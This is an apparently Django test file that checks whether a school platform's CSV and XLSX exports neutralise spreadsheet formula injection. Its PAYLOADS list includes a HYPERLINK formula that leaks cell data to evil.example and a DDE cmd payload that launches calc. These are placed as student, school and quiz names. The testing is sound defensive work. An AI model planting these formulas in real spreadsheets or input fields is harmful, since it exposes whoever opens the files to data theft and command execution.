"""Every spreadsheet the platform hands out is safe to open in Excel: text that would run as a formula
(starting with =, +, -, @, tab or carriage return) arrives neutralised. Tested end to end through the views."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.tabular import FORMULA_PREFIXES
from people.models import SchoolYear
from people.testing import make_student

from .conftest import client_for

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def dangerous_cells(cells) -> list[str]:
    return [cell for cell in cells if isinstance(cell, str) and cell.startswith(FORMULA_PREFIXES)]


def csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}"
                cells.append(cell.value)
    return cells


def assert_neutralised(cells, expected_payloads=PAYLOADS):
    assert not dangerous_cells(cells), f"cells Excel would run: {dangerous_cells(cells)}"
    # XML (XLSX) turns a carriage return into a line feed; compare with both written the same way.
    text = "\n".join(str(cell) for cell in cells if cell is not None).replace("\r", "\n")
    for payload in expected_payloads:
        expected = ("'" + payload).replace("\r", "\n")
        assert expected in text, f"{payload!r} is missing from the export (so the test proves nothing)"


@pytest.fixture
def hostile_class(fresh):
    for number, name in enumerate(PAYLOADS, start=1):
        make_student(fresh.world.class_a, f"9{number:03d}", name)
    return fresh


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_class_results_export(hostile_class, fmt):
    url = reverse("classroom:class_export", args=[hostile_class.world.class_a.pk, fmt])
    response = client_for(hostile_class, "teacher").get(url)
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    data = _body(response)
    assert_neutralised(csv_cells(data) if fmt == "csv" else xlsx_cells(data))


@pytest.fixture
def hostile_far_school(fresh):
    from plans.rollup import refresh_district

    school = fresh.world.far_school
    school.name = PAYLOADS[0]
    school.save(update_fields=["name"])
    refresh_district(fresh.world.other_district, SchoolYear.current().start_year)
    return fresh


def test_report_csv(hostile_far_school):
    response = client_for(hostile_far_school, "far_auditor").get(reverse("plans:report_csv"))
    assert response.status_code == 200
    assert_neutralised(csv_cells(_body(response)), PAYLOADS[:1])


def test_report_xlsx_export(hostile_far_school):
    client = client_for(hostile_far_school, "far_auditor")
    year = SchoolYear.current().start_year
    response = client.post(reverse("plans:export_create"), {"year": year, "period": "year"})
    assert response.status_code == 302
    from plans.models import TableExport

    export = TableExport.objects.filter(requested_by=hostile_far_school.world.far_auditor).latest("pk")
    download = client.get(reverse("plans:export_download", args=[export.pk]))
    assert download.status_code == 200
    assert_neutralised(xlsx_cells(_body(download)), PAYLOADS[:1])


def test_inspection_archive(hostile_far_school):
    far = hostile_far_school.far
    response = client_for(hostile_far_school, "far_auditor").get(
        reverse("plans:sample_archive", args=[far.sample.pk, far.school.pk])
    )
    assert response.status_code == 200
    cells = []
    with zipfile.ZipFile(io.BytesIO(_body(response))) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                cells += csv_cells(archive.read(name))
            elif name.endswith(".xlsx"):
                cells += xlsx_cells(archive.read(name))
    assert_neutralised(cells, PAYLOADS[:1])


def test_question_bank_export(fresh):
    from quizzes.tests import factories

    for payload in PAYLOADS:
        factories.question(text=payload, options=((payload, 100), ("安全", 0)))
    response = client_for(fresh, "editor").get(reverse("quizzes:export"), {"format": "xlsx"})
    assert response.status_code == 200
    assert_neutralised(xlsx_cells(_body(response)))
